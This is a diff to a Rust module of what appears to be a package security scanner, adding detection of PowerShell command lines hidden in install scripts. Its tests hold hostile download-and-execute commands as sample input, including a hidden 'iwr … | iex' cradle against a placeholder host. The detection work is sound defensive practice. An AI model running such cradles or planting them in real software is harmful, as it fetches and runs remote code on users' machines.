@@ -1,5 +1,6 @@
 //! Code handed to an interpreter on its own command line: `node -e "…"`, `node --eval`, `node -p`,
-//! `python3 -c "…"`. In an npm lifecycle script, a shell script or a command string the code is as much a
+//! `python3 -c "…"`, and a PowerShell command line (`powershell -nop -c "…"`, or `powershell Invoke-…`
+//! with the command unquoted to the end of the line). In an npm lifecycle script, a shell script or a command string the code is as much a
 //! program of the package as a file would be, but the rules read it as one quoted shell word (and in
 //! `package.json` as a JSON string with `\"` escapes), so a `require('child'+'_process')` inside it goes
 //! unseen. The quoted code is unescaped and scanned again as the interpreter's language; it is not an
@@ -13,6 +14,7 @@ use std::sync::LazyLock;
 /// The encodings this module reports, by interpreter.
 pub(crate) const NODE: &str = "node -e code";
 pub(crate) const PYTHON: &str = "python -c code";
+pub(crate) const POWERSHELL: &str = "powershell command";
 
 /// Inline programs read per segment, and the bytes one may span: a file of unclosed `node -e "` openers
 /// costs at most their product.
@@ -32,14 +34,28 @@ static INLINE: LazyLock<Regex> = LazyLock::new(|| {
     .expect("inline interpreter code pattern")
 });
 
+/// `powershell` with its switches, then an optional `-c`/`-Command`: what follows is the command.
+// A constant pattern (its tests compile it): `expect` never sees scanned data.
+#[allow(clippy::expect_used)]
+static POWERSHELL_LINE: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(
+        r#"(?i)\b(?:powershell|pwsh)(?:\.exe)?((?:[ \t]+-(?:nop|noprofile|noni|noninteractive|sta|w(?:indowstyle)?[ \t]+\w+|ep[ \t]+\w+|exec(?:utionpolicy)?[ \t]+\w+))*)[ \t]+(?:-c(?:ommand)?[ \t]+)?(\\?["']|[A-Za-z$&(])"#,
+    )
+    .expect("powershell command pattern")
+});
+
 /// Whether a payload is inline interpreter code rather than an encoding.
 pub(crate) fn is_inline(payload: &Payload) -> bool {
-    payload.encoding == NODE || payload.encoding == PYTHON
+    payload.encoding == NODE || payload.encoding == PYTHON || payload.encoding == POWERSHELL
 }
 
 
 /// The inline programs in `body`.
 pub(super) fn find(body: &str, base: usize, found: &mut Vec<Payload>) {
+    let lower_has = |word: &str| body.contains(word) || body.to_ascii_lowercase().contains(word);
+    if lower_has("powershell") || lower_has("pwsh") {
+        powershell(body, base, found);
+    }
     if !(body.contains("node") || body.contains("python")) {
         return;
     }
@@ -58,6 +74,48 @@ pub(super) fn find(body: &str, base: usize, found: &mut Vec<Payload>) {
             start: base + whole.start(),
             end: base + whole.end() + end,
             encoding,
+            decoded: code,
+        });
+    }
+}
+
+/// PowerShell command lines: a quoted command, or an unquoted one to the end of the line.
+fn powershell(body: &str, base: usize, found: &mut Vec<Payload>) {
+    for caps in POWERSHELL_LINE.captures_iter(body).take(MAX_INLINE) {
+        let (Some(whole), Some(first)) = (caps.get(0), caps.get(2)) else {
+            continue;
+        };
+        // A command position (line start, a quote, `;`, `&`, `|`, `(`): not the word in a sentence.
+        let before = body[..whole.start()].trim_end_matches([' ', '\t']);
+        let at_command = before.is_empty()
+            || before.ends_with(['\n', '"', '\'', ';', '&', '|', '(', '`', '[', ',']);
+        if !at_command {
+            continue;
+        }
+        let quote = first.as_str();
+        let (code, end) = if matches!(quote, "\"" | "'" | "\\\"") {
+            match quoted(&body[whole.end()..], quote) {
+                Some((code, end)) => (code, whole.end() + end),
+                None => continue,
+            }
+        } else {
+            let rest = &body[first.start()..];
+            let line = rest.lines().next().unwrap_or("");
+            let mut cut = line.len().min(MAX_INLINE_BYTES);
+            while !line.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            let line = &line[..cut];
+            (line.to_string(), first.start() + line.len())
+        };
+        // A command worth reading names a cmdlet (`Verb-Noun`), or chains or pipes commands.
+        if code.trim().chars().count() < MIN_CODE_CHARS || !code.contains(['-', '|', ';']) {
+            continue;
+        }
+        found.push(Payload {
+            start: base + whole.start(),
+            end: base + end,
+            encoding: POWERSHELL,
             decoded: code,
         });
     }
@@ -121,6 +179,19 @@ mod tests {
         );
         let single = "node --eval 'require(\"https\").get(process.argv[1])' x";
         assert_eq!(inline(single)[0].1, "require(\"https\").get(process.argv[1])");
+    }
+
+    #[test]
+    fn powershell_command_lines_are_read_quoted_or_to_the_end_of_the_line() {
+        let python = r#"os.system('powershell Invoke-WebRequest -Uri "https://a.invalid/x.exe" -OutFile x.exe; Invoke-Expression x.exe')"#;
+        let found = inline(python);
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert_eq!(found[0].0, POWERSHELL);
+        assert!(found[0].1.starts_with("Invoke-WebRequest -Uri"), "{found:?}");
+        let quoted = "powershell -nop -w hidden -c \"iwr https://a.invalid/s.ps1 | iex\"";
+        assert_eq!(inline(quoted)[0].1, "iwr https://a.invalid/s.ps1 | iex");
+        // A sentence naming PowerShell is not a command line.
+        assert!(inline("Open PowerShell and run Get-ChildItem -Recurse to list them.").is_empty());
     }
 
     #[test]
